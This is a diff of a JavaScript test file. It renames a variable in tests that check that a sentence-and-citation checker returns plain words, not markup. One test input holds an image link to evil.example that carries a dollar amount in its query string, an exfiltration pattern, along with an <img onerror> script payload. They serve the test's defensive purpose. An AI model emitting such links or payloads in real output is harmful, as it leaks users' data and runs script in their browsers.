@@ -132,18 +132,18 @@ describe('a sentence', () => {
   })
 
   it('is words and never markup', async () => {
-    const told = await check(
+    const answer = await check(
       '## Rent\n**Base rent** is `$4,200` [2]. ![x](https://evil.example/p.png?d=4200) <img src=x onerror=alert(1)>',
     )
-    expect(told.map((entry) => entry.text)).toEqual([
+    expect(answer.map((entry) => entry.text)).toEqual([
       'Rent',
       'Base rent is $4,200. x (https://evil.example/p.png?d=4200)',
     ])
-    expect(told.at(-1)?.standing).toBe('unsupported')
+    expect(answer.at(-1)?.standing).toBe('unsupported')
   })
 
   it('keeps its marks wherever they stand', async () => {
-    const told = await check('It is $750. [2] Rent is $4,200 [2, 3]; it is late after five days [1-2].')
-    expect(told.map((entry) => entry.sources)).toEqual([[2], [2, 3, 1]])
+    const answer = await check('It is $750. [2] Rent is $4,200 [2, 3]; it is late after five days [1-2].')
+    expect(answer.map((entry) => entry.sources)).toEqual([[2], [2, 3, 1]])
   })
 })
